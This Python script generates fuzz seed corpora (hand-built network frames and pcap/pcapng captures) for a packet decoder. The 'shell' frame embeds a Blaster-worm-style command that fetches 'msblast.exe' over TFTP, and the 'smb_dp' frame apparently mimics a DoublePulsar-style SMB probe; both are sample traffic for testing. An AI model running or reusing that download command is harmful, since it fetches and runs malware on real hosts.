#!/usr/bin/env python3
"""Write the seed corpora of the decoder, DNS and pipeline fuzzers: small
hand-built frames and captures (this project's own bytes). Run once; the
output is committed under fuzz/corpus/."""
import os, struct

here = os.path.dirname(os.path.abspath(__file__))

def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff

def ipv4(src, dst, proto, payload):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 128, proto, 0,
                    bytes(src), bytes(dst))
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return h + payload

def tcp(sp, dp, flags, data=b""):
    return struct.pack("!HHIIBBHHH", sp, dp, 1, 0, 0x50, flags, 8192, 0, 0) + data

def udp(sp, dp, data):
    return struct.pack("!HHHH", sp, dp, 8 + len(data), 0) + data

def eth(t, payload):
    return b"\x00\x11\x22\x33\x44\x55" + b"\x66\x77\x88\x99\xaa\xbb" + struct.pack("!H", t) + payload

A, B = [192, 168, 0, 23], [192, 168, 0, 10]
dnsq = bytes.fromhex("12348180000100010000000003777777016101620000010001c00c000100010000003c0004c0000207")
frames = {
    "syn": eth(0x0800, ipv4(A, B, 6, tcp(1025, 445, 0x02))),
    "synack": eth(0x0800, ipv4(B, A, 6, tcp(445, 1025, 0x12))),
    "vlan": b"\x00" * 12 + b"\x81\x00\x00\x0a\x88\xa8\x00\x14\x08\x00" + ipv4(A, B, 17, udp(53, 1030, dnsq)),
    "arp": eth(0x0806, struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, b"\x01" * 6, bytes(A), b"\0" * 6, bytes(B))),
    "icmp_unreach": eth(0x0800, ipv4(B, A, 1, b"\x03\x01\x00\x00\x00\x00\x00\x00" + ipv4(A, [8, 8, 8, 8], 6, tcp(1025, 445, 2))[:28])),
    "ipv6_hbh": eth(0x86dd, struct.pack("!IHBB16s16s", 0x60000000, 8 + 20, 0, 64, b"\xfd" + b"\0" * 15, b"\xfd" + b"\0" * 14 + b"\x02")
                 + bytes([6, 0, 1, 4, 0, 0, 0, 0]) + tcp(1025, 445, 2)),
    "smb_dp": eth(0x0800, ipv4(A, B, 6, tcp(1025, 445, 0x18, b"\x00\x00\x00\x60\xffSMB\x32" + b"\0" * 23 + b"\x0f" + b"\0" * 27 + b"\x0e\x00" + b"\0" * 20))),
    "shell": eth(0x0800, ipv4(A, B, 6, tcp(1025, 4444, 0x18, b"tftp -i 192.168.0.23 GET msblast.exe\r\n"))),
}
os.makedirs(os.path.join(here, "corpus", "decode"), exist_ok=True)
for name, f in frames.items():
    open(os.path.join(here, "corpus", "decode", name), "wb").write(b"\x00" + f)   # DLT_EN10MB
open(os.path.join(here, "corpus", "decode", "raw_syn"), "wb").write(b"\x03" + ipv4(A, B, 6, tcp(1025, 445, 2)))
os.makedirs(os.path.join(here, "corpus", "dns"), exist_ok=True)
open(os.path.join(here, "corpus", "dns", "answer"), "wb").write(dnsq)
open(os.path.join(here, "corpus", "dns", "loop"), "wb").write(bytes.fromhex("000181800001000000000000c00c00010001"))

def pcap(frames, link=1):
    out = struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, link)
    for i, f in enumerate(frames):
        out += struct.pack("<IIII", 1700000000 + i, 0, len(f), len(f)) + f
    return out

def pcapng(frames):
    def block(t, body):
        body += b"\0" * (-len(body) % 4)
        return struct.pack("<II", t, 12 + len(body)) + body + struct.pack("<I", 12 + len(body))
    out = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
    out += block(1, struct.pack("<HHI", 1, 0, 65535))
    for i, f in enumerate(frames):
        ts = (1700000000 + i) * 1000000
        out += block(6, struct.pack("<IIIII", 0, ts >> 32, ts & 0xffffffff, len(f), len(f)) + f)
    return out

os.makedirs(os.path.join(here, "corpus", "pipeline"), exist_ok=True)
seq = [frames["arp"], frames["syn"], frames["synack"], frames["icmp_unreach"], frames["vlan"], frames["shell"], frames["smb_dp"]]
open(os.path.join(here, "corpus", "pipeline", "small.pcap"), "wb").write(pcap(seq))
open(os.path.join(here, "corpus", "pipeline", "small.pcapng"), "wb").write(pcapng(seq))
open(os.path.join(here, "corpus", "pipeline", "cut.pcap"), "wb").write(pcap(seq)[:150])
bad = bytearray(pcap(seq)); bad[24 + 8:24 + 12] = struct.pack("<I", 0xfffffff0)
open(os.path.join(here, "corpus", "pipeline", "huge_caplen.pcap"), "wb").write(bytes(bad))
